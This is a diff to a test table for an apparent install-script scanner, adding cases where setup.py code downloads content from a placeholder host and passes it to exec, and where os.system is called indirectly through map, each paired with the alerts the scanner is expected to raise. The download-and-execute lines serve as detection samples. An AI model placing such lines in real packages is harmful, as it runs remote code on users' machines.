@@ -425,9 +425,19 @@ SCRIPTS = {
         "exec(urlopen('http://a.org').read())\n",
         [
             "alert setup.py:5 builtins.exec executes what was downloaded",
-            "alert setup.py:5 calls builtins.exec, urllib.request.urlopen "
-            "(line 5)",
         ],
+    ),
+    "what is downloaded first": (
+        "from urllib.request import urlopen\n"
+        "text = urlopen('http://a.org').read()\nexec(text)\n",
+        [
+            "alert setup.py:6 builtins.exec executes what was downloaded",
+            "alert setup.py:5 calls urllib.request.urlopen",
+        ],
+    ),
+    "a function that is passed on": (
+        "import os\nlist(map(os.system, ['x']))\n",
+        ["review setup.py:5 uses os.system"],
     ),
     "a program": (
         "import subprocess\nsubprocess.run(['make'])\n",
